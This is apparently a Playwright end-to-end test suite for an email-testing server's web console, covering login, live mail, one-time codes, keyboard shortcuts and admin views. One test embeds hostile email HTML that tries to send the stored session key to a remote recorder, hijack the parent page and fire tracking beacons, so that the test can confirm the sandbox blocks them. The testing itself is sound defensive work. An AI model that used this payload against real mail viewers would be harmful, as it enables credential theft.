// The browser console (CONTRACT §16) from the built executable, in Debian's chromium: sign in with a pasted key, live
// mail over SSE after an SMTP send, the message view and its copy button, a hostile mail's HTML in the sandboxed
// preview, keyboard use, dark mode, admin views, and routes this server may lack.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { takeScreenshots } from '../../scripts/screenshots.ts';
import { ADMIN_KEY, builtBinary, chromiumMissing, launchChromium, type Running, recorder, startServer } from '../helpers/console.ts';
import { sendMail } from '../helpers/smtp.ts';

const missing = chromiumMissing();

describe('browser console', { skip: missing ?? false }, () => {
  let server: Running;
  let browser: Browser;
  let remote: Awaited<ReturnType<typeof recorder>>;
  const contexts: BrowserContext[] = [];

  before(async () => {
    // Callbacks to the local test receiver (loopback, plain http) are allowed here.
    server = await startServer(builtBinary(), ['--allow-http-callbacks', '--allow-private-callbacks']);
    remote = await recorder();
    browser = await launchChromium();
  });

  after(async () => {
    for (const c of contexts) await c.close().catch(() => undefined);
    await browser?.close().catch(() => undefined);
    await remote?.close();
    await server?.stop();
  });

  async function open(opts: { colorScheme?: 'light' | 'dark'; signIn?: boolean } = {}): Promise<Page> {
    const ctx = await browser.newContext({ colorScheme: opts.colorScheme ?? 'light', viewport: { width: 1360, height: 900 } });
    contexts.push(ctx);
    await ctx.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: server.base });
    const page = await ctx.newPage();
    await page.goto(`${server.base}/`);
    if (opts.signIn !== false) {
      await page.fill('#key', ADMIN_KEY);
      await page.press('#key', 'Enter');
      await page.waitForSelector('header.top');
    }
    return page;
  }

  async function newInbox(label = 'console-e2e'): Promise<{ inboxId: string; address: string }> {
    return server.api('/v1/inboxes', { method: 'POST', body: { label } });
  }

  test('GET / serves the page with a strict CSP; assets are hashed and cached for a year', async () => {
    const res = await fetch(`${server.base}/`);
    assert.equal(res.status, 200);
    assert.match(res.headers.get('content-type') ?? '', /^text\/html/);
    const csp = res.headers.get('content-security-policy') ?? '';
    for (const d of ["default-src 'none'", "script-src 'self'", "connect-src 'self'", "frame-ancestors 'none'", "base-uri 'none'"]) {
      assert.ok(csp.includes(d), `CSP lacks ${d}: ${csp}`);
    }
    assert.doesNotMatch(csp, /unsafe-eval|script-src[^;]*unsafe-inline/);
    assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
    assert.equal(res.headers.get('referrer-policy'), 'no-referrer');
    const page = await res.text();
    assert.doesNotMatch(page, /<script>|<script [^>]*>[^<]/, 'no inline script');
    const assets = [...page.matchAll(/(?:src|href)="\.(\/console\/console\.[0-9a-f]{12}\.(?:js|css))"/g)].map((m) => m[1]!);
    assert.equal(assets.length, 2, page);
    for (const a of assets) {
      const r = await fetch(server.base + a);
      assert.equal(r.status, 200, a);
      assert.match(r.headers.get('cache-control') ?? '', /max-age=31536000.*immutable/);
      assert.equal(r.headers.get('x-content-type-options'), 'nosniff');
      assert.ok((await r.arrayBuffer()).byteLength > 1000);
    }
    const gone = await fetch(`${server.base}/console/console.000000000000.js`);
    assert.equal(gone.status, 404);
    await gone.arrayBuffer();
  });

  test('the pasted key lives in sessionStorage only: not in the URL, not in localStorage; a wrong key is refused', async () => {
    const page = await open({ signIn: false });
    await page.fill('#key', 'ibx_wrongwrongwrongwrongwrongwrong00');
    await page.press('#key', 'Enter');
    await page.waitForSelector('.login [role="alert"]');
    assert.match((await page.textContent('.login [role="alert"]')) ?? '', /refused/);
    await page.fill('#key', ADMIN_KEY);
    await page.press('#key', 'Enter');
    await page.waitForSelector('header.top');
    const where = await page.evaluate(() => ({
      url: location.href,
      session: Object.values(sessionStorage),
      local: Object.values(localStorage),
    }));
    assert.ok(!where.url.includes(ADMIN_KEY));
    assert.deepEqual(where.session, [ADMIN_KEY]);
    assert.ok(!where.local.includes(ADMIN_KEY));
    // A reload keeps the session; "Forget key" removes it.
    await page.reload();
    await page.waitForSelector('header.top');
    await page.click('text=Forget key');
    await page.waitForSelector('#key');
    assert.deepEqual(await page.evaluate(() => Object.values(sessionStorage)), []);
  });

  test('mail sent over SMTP appears live; the message opens with its code highlighted, and Copy puts the code on the clipboard', async () => {
    const inbox = await newInbox();
    const page = await open();
    await page.click(`[data-inbox-id="${inbox.inboxId}"]`);
    await page.waitForSelector('.live-live');
    await sendMail(server.smtpPort, {
      to: inbox.address,
      subject: 'Your sign-in code',
      text: 'Hello,\n\nyour code is 482913. It expires in 10 minutes.\n',
      html: '<p>Hello,</p><p>your code is <b>482913</b>.</p>',
      attachments: [{ filename: 'receipt.txt', content: 'paid in full\n', contentType: 'text/plain' }],
    });
    const item = await page.waitForSelector('[data-nav="messages"]');
    assert.match((await item.textContent()) ?? '', /Your sign-in code/);
    assert.match((await item.textContent()) ?? '', /code 482913/);
    await item.click();
    await page.waitForSelector('#otp');
    assert.equal(await page.textContent('#otp'), '482913');
    await page.click('.verification button[data-copy="code"]');
    await page.waitForFunction(() => document.getElementById('announce')?.textContent === 'Copied code');
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), '482913');
    // The text part marks the code where it appears.
    await page.click('[role="tab"]#tab-text');
    assert.equal(await page.textContent('pre.text mark'), '482913');
    // Raw source through the .eml route, and the attachment as a download (both fetched with the key).
    await page.click('[role="tab"]#tab-raw');
    assert.match((await (await page.waitForSelector('pre.raw')).textContent()) ?? '', /^Subject: Your sign-in code\r?$/m);
    await page.click('[role="tab"]#tab-attachments');
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('.attachments button')]);
    assert.equal(download.suggestedFilename(), 'receipt.txt');
    const saved = await download.path();
    assert.equal(fs.readFileSync(saved, 'utf8'), 'paid in full\n');
  });

  test('hostile HTML: no script runs, no handler fires, no remote image loads until asked; the key and the page stay out of reach', async () => {
    const inbox = await newInbox();
    const page = await open();
    await page.goto(`${server.base}/#/inbox/${inbox.inboxId}`);
    await page.waitForSelector('.live-live');
    const r = remote.url;
    await sendMail(server.smtpPort, {
      to: inbox.address,
      subject: 'Totally harmless',
      text: 'see the HTML part',
      html:
        `<p id="p">hello</p>` +
        `<script>try{parent.document.title='pwned-parent'}catch(e){}document.title='pwned';` +
        `new Image().src='${r}/script?k='+encodeURIComponent(String(Object.values(parent.sessionStorage)));top.location='${r}/top'</script>` +
        `<img src="x" onerror="new Image().src='${r}/onerror';parent.document.body.innerHTML='forged'">` +
        `<img id="pixel" src="${r}/pixel.gif" width="1" height="1">` +
        `<div style="background:url(${r}/css-bg.gif)">bg</div>` +
        `<form action="${r}/form"><input name="q" value="1"><button id="sub">go</button></form>` +
        `<a id="out" href="${r}/clicked" target="_top">click me</a><a id="in" href="${r}/clicked-in-frame">or me</a>`,
    });
    await (await page.waitForSelector('[data-nav="messages"]')).click();
    const frameEl = await page.waitForSelector('iframe.preview-frame');
    const frame = await frameEl.contentFrame();
    assert.ok(frame);
    await frame.waitForLoadState('load');
    // The load event waits for every image: whatever the default preview was going to request, it has by now.
    assert.equal(await frame.textContent('#p'), 'hello');
    assert.equal(remote.paths.length, 0, `nothing may reach the remote server: ${remote.paths.join(', ')}`);
    assert.equal(await page.title(), 'inboxd console');
    assert.ok(page.url().startsWith(server.base), page.url());
    assert.ok(await page.isVisible('.verification, .message-head'));
    assert.equal(await page.textContent('#announce').then((t) => (t ?? '').includes('forged')), false);
    assert.equal(await frameEl.getAttribute('sandbox'), '', 'sandbox with no allow-* flag');

    // Neither the form nor a target=_top link can leave the frame.
    await frame.click('#sub').catch(() => undefined);
    await frame.click('#out').catch(() => undefined);
    await frame.click('#in').catch(() => undefined);
    await page.waitForSelector('#toggle-images');
    assert.ok(page.url().startsWith(server.base), page.url());

    // Remote images only on request: the pixel loads then, the script and the handler still do not run.
    await page.click('#toggle-images');
    const deadline = Date.now() + 10_000;
    while (!remote.paths.includes('/pixel.gif') && Date.now() < deadline) await new Promise((res) => setTimeout(res, 50));
    assert.ok(remote.paths.includes('/pixel.gif'), `remote images on: ${JSON.stringify(remote.paths)}`);
    const frame2 = await (await page.waitForSelector('iframe.preview-frame')).contentFrame();
    await frame2?.waitForLoadState('load');
    for (const p of remote.paths) assert.match(p, /^\/(pixel|css-bg)\.gif$/, `unexpected request ${p}`);
    assert.equal(await page.title(), 'inboxd console');
  });

  test('keyboard only: sign in, pick the inbox, open the message, copy the code, switch tabs, close, help', async () => {
    const inbox = await newInbox('kbd-only');
    await server.api(`/v1/inboxes/${inbox.inboxId}/simulate`, { method: 'POST', body: { scenario: 'otp' } });
    const page = await open({ signIn: false });
    // The key field takes focus on load.
    await page.waitForSelector('#key:focus');
    await page.keyboard.type(ADMIN_KEY);
    await page.keyboard.press('Enter');
    await page.waitForSelector('header.top');
    // j walks the inbox list (newest first: this one) — also from the overview, whose hint says so — and Enter
    // opens it and moves focus into it.
    await page.waitForSelector(`[data-inbox-id="${inbox.inboxId}"]`);
    await page.keyboard.press('j');
    assert.equal(await page.evaluate(() => (document.activeElement as HTMLElement).dataset['inboxId']), inbox.inboxId);
    await page.keyboard.press('Enter');
    await page.waitForSelector('[data-nav="messages"]');
    await page.waitForFunction(() => document.activeElement?.id === 'main');
    await page.keyboard.press('j');
    await page.waitForSelector('.verification');
    const focused = await page.evaluate(() => {
      const el = document.activeElement as HTMLElement;
      return { nav: el.dataset['nav'], outline: getComputedStyle(el).outlineStyle };
    });
    assert.equal(focused.nav, 'messages');
    assert.notEqual(focused.outline, 'none', 'the focused item shows a focus ring');
    const otp = (await page.textContent('#otp')) ?? '';
    assert.match(otp, /^\S+$/);
    await page.keyboard.press('c');
    await page.waitForFunction(() => document.getElementById('announce')?.textContent === 'Copied code');
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), otp);
    await page.keyboard.press('4');
    await page.waitForSelector('#tab-headers[aria-selected="true"]');
    await page.keyboard.press('Escape');
    await page.waitForFunction(() => !document.querySelector('.verification'));
    assert.equal(await page.evaluate(() => (document.activeElement as HTMLElement).dataset['nav']), 'messages');
    await page.keyboard.press('?');
    await page.waitForSelector('dialog.help[open]');
    assert.match((await page.textContent('dialog.help')) ?? '', /copy the extracted code/);
    await page.keyboard.press('Escape');
    await page.waitForFunction(() => !document.querySelector('dialog.help'));
    // Tab reaches the search box from the top of the page.
    await page.keyboard.press('/');
    assert.equal(await page.evaluate(() => document.activeElement?.id), 'search');
  });

  test('the callback delivery log lists each attempt with its outcome', async () => {
    const receiver = await recorder();
    try {
      const inbox = await server.api('/v1/inboxes', {
        method: 'POST',
        body: { label: 'callbacks-e2e', callbackUrl: `${receiver.url}/hook` },
      });
      await server.api(`/v1/inboxes/${inbox.inboxId}/simulate`, { method: 'POST', body: { scenario: 'otp' } });
      const page = await open();
      await page.goto(`${server.base}/#/inbox/${inbox.inboxId}/callbacks`);
      // The delivery is made after the message is stored: refresh until its row is there.
      const deadline = Date.now() + 15_000;
      for (;;) {
        await page.waitForSelector('section[aria-label="Callback deliveries"] :is(table, .empty, .error)');
        if (await page.$('section[aria-label="Callback deliveries"] tr.ok')) break;
        assert.ok(Date.now() < deadline, `no delivered row: ${await page.textContent('main')}`);
        await new Promise((res) => setTimeout(res, 200));
        await page.click('section[aria-label="Callback deliveries"] >> text=Refresh');
      }
      assert.match((await page.textContent('tr.ok')) ?? '', /delivered \(200\)/);
      assert.deepEqual(receiver.paths, ['/hook']);
    } finally {
      await receiver.close();
    }
  });

  test('dark mode follows the system, and the toggle (t) overrides it and is remembered', async () => {
    const page = await open({ colorScheme: 'dark' });
    const bg = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
    assert.equal(await bg(), 'rgb(18, 20, 23)');
    await page.keyboard.press('t');
    await page.waitForFunction(() => document.documentElement.dataset['theme'] === 'light');
    assert.equal(await bg(), 'rgb(247, 247, 248)');
    await page.reload();
    await page.waitForSelector('header.top');
    assert.equal(await bg(), 'rgb(247, 247, 248)');
  });

  test('admins see keys and the audit log: a key made here is shown once and audited', async () => {
    const page = await open();
    await page.click('nav[aria-label="Views"] >> text=Keys');
    await page.fill('.create-key input[required]', 'made-in-console');
    await page.click('.create-key button[type="submit"]');
    const secret = (await (await page.waitForSelector('.secret code.otp')).textContent()) ?? '';
    assert.match(secret, /^ibx_[A-Za-z0-9]{32}$/);
    // The list reloads after the create: wait for the new row rather than reading the table as it was.
    await page.waitForSelector('table.grid >> text=made-in-console', { timeout: 5000 });
    await page.click('nav[aria-label="Views"] >> text=Audit');
    // The keys table stays on the page until the audit view has loaded: wait for the audit row itself.
    const row = await page.waitForSelector('table.grid >> text=key.create', { timeout: 5000 });
    assert.match((await row.textContent()) ?? '', /key\.create/);
  });

  test('a route this server lacks is said to be missing, not shown as a failure', async () => {
    const page = await open();
    await page.route('**/v1/console/threads*', (route) =>
      route.fulfill({
        status: 404,
        contentType: 'application/problem+json',
        body: JSON.stringify({
          type: 'about:blank',
          title: 'Not Found',
          status: 404,
          code: 'not_found',
          detail: 'no such endpoint: GET /v1/console/threads',
        }),
      }),
    );
    await page.click('nav[aria-label="Views"] >> text=Threads');
    const note = await page.waitForSelector('.note[role="status"]');
    assert.match((await note.textContent()) ?? '', /does not offer recent threads/);
  });

  test('scripts/screenshots.ts writes the README screenshots', async () => {
    const out = fs.mkdtempSync(path.join(os.tmpdir(), 'inboxd-console-shots-'));
    try {
      const files = await takeScreenshots(out, builtBinary());
      assert.ok(files.includes('message.png') && files.includes('message-dark.png'), files.join());
      for (const f of files) assert.deepEqual([...fs.readFileSync(path.join(out, f)).subarray(1, 4)], [0x50, 0x4e, 0x47], `${f} is a PNG`);
    } finally {
      fs.rmSync(out, { recursive: true, force: true });
    }
  });

  test('the overview shows counts, top labels (a click filters the inbox list) and recent mail', async () => {
    const inbox = await newInbox('overview-e2e');
    await server.api(`/v1/inboxes/${inbox.inboxId}/simulate`, { method: 'POST', body: { scenario: 'otp' } });
    const page = await open();
    await page.waitForSelector('section[aria-label="Summary"] :is(.tiles, .note, .error)');
    assert.match((await page.textContent('.tiles', { timeout: 1000 })) ?? '', /inboxes/);
    await page.click('section[aria-label="Summary"] table >> text=overview-e2e');
    await page.waitForFunction(() => (document.getElementById('label-filter') as HTMLInputElement | null)?.value === 'overview-e2e');
    await page.waitForSelector(`.sidebar [data-inbox-id="${inbox.inboxId}"]`);
    assert.equal(await page.$$eval('.sidebar [data-nav="inboxes"]', (els) => els.length), 1);
    const recent = await page.waitForSelector('[data-nav="recent"]');
    await recent.click();
    await page.waitForSelector('.message-head');
  });

  test('search finds a message by its words and opens it', async () => {
    const inbox = await newInbox('search-e2e');
    await sendMail(server.smtpPort, { to: inbox.address, subject: 'Quarterly zebra report', text: 'the zebra numbers are in' });
    await server.api(`/v1/inboxes/${inbox.inboxId}/wait?timeoutSeconds=10`);
    const page = await open();
    await page.keyboard.press('/');
    await page.keyboard.type('zebra');
    await page.keyboard.press('Enter');
    // The answer, or the note/error the view shows instead (fails at once rather than at a selector timeout).
    await page.waitForSelector('[data-nav="search"], section[aria-label="Search results"] :is(.note, .error, .empty)');
    const hit = await page.waitForSelector('[data-nav="search"]', { timeout: 1000 });
    assert.match((await hit.textContent()) ?? '', /Quarterly zebra report/);
    assert.match((await page.innerHTML('[data-nav="search"] .snippet')) ?? '', /<mark>zebra<\/mark>/i);
    await hit.click();
    await page.waitForSelector('.message-head');
    assert.match((await page.textContent('#message-subject')) ?? '', /Quarterly zebra report/);
  });

  test('threads: a reply joins its thread, listed per inbox and across inboxes, oldest message first', async () => {
    const inbox = await newInbox('threads-e2e');
    const first = await sendMail(server.smtpPort, { to: inbox.address, subject: 'Plans for Friday', text: 'lunch?' });
    await sendMail(server.smtpPort, {
      to: inbox.address,
      subject: 'Re: Plans for Friday',
      text: 'yes',
      inReplyTo: first.messageId,
      references: [first.messageId],
    });
    const page = await open();
    await page.goto(`${server.base}/#/inbox/${inbox.inboxId}/threads`);
    await page.waitForSelector('[data-nav="threads"], section[aria-label="Threads"] :is(.note, .error, .empty)');
    const t = await page.waitForSelector('[data-nav="threads"]', { timeout: 1000 });
    assert.match((await t.textContent()) ?? '', /Plans for Friday/);
    assert.match((await t.textContent()) ?? '', /2 msg/);
    await t.click();
    await page.waitForSelector('ol.thread [data-nav="thread-messages"]');
    const msgs = await page.$$eval('ol.thread [data-nav="thread-messages"] .subject', (els) => els.map((e) => e.textContent));
    assert.deepEqual(msgs, ['Plans for Friday', 'Re: Plans for Friday']);
    await page.click('nav[aria-label="Views"] >> text=Threads');
    // The per-inbox list's rows are still in the page while the cross-inbox view loads: wait for that view's row.
    await page.waitForSelector('section[aria-label="Recent threads"] [data-thread-id] >> text=Plans for Friday', { timeout: 5000 });
  });
});
